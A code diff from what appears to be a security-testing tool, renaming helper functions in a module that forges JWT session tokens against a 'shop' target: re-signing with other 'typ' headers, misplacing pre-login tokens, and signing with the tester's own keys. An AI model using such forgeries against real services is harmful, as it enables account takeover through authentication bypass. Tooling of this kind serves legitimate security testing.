@@ -4,12 +4,12 @@ import { createServer } from 'node:http';
 import { type Attack, type AttackResult, notApplicable, Tries } from '../attack.js';
 import { Inconclusive } from '../errors.js';
 import {
-  cookieOf,
+  buildCookie,
   type Forgery,
   type Header,
   makeContent,
+  makeOwnPairs,
   makeShopSigner,
-  ownPairs,
   readToken,
   type TokenContent,
 } from '../tools/forge-jwt.js';
@@ -42,19 +42,19 @@ const types: readonly unknown[] = [
 
 /** Sends genuine tokens of the shop in the wrong place, and tokens that its key signed as another type. */
 async function tryTypes(target: Target) {
-  const preLogin = target.strategy === 'jwt' ? await preLoginToken(target) : '';
+  const preLogin = target.strategy === 'jwt' ? await fetchPreLoginToken(target) : '';
   return tryForgeries(target, async forge => {
     const ring = await target.keyRing();
     const typed = types.map(typ => ({
       probe: 'another type',
       what: `typ ${JSON.stringify(typ)} under a good signature`,
-      token: cookieOf({ ...forge.header, typ } satisfies Header, forge.content, makeShopSigner(ring)),
+      token: buildCookie({ ...forge.header, typ } satisfies Header, forge.content, makeShopSigner(ring)),
     }));
     return [...typed, ...misplaceTokens(forge, preLogin)];
   });
 }
 
-async function preLoginToken(target: Target): Promise<string> {
+async function fetchPreLoginToken(target: Target): Promise<string> {
   const { user } = await enrolUser(target);
   const token = (await preLoginOf(target, user)).cookies.get('pre-login');
   if (token === undefined) throw new Inconclusive('the password alone gives no pre-authentication token');
@@ -151,7 +151,7 @@ export const jwtOwnKey: Attack = {
   },
   run: target =>
     tryForgeries(target, async ({ header, content }) => [
-      ...forgeWithOwnKeys(header, content, await ownPairs()),
+      ...forgeWithOwnKeys(header, content, await makeOwnPairs()),
       ...forgeExtensions(header, content, await target.keyRing()),
     ]),
 };
@@ -240,7 +240,7 @@ async function tryForgeries(
 
 async function prepareProvenForge(target: Target): Promise<Forge> {
   const forge = await prepareForge(target);
-  const sound = cookieOf(forge.header, forge.content, makeShopSigner(await target.keyRing()));
+  const sound = buildCookie(forge.header, forge.content, makeShopSigner(await target.keyRing()));
   await proveContent(target, sound, forge.victim);
   return forge;
 }
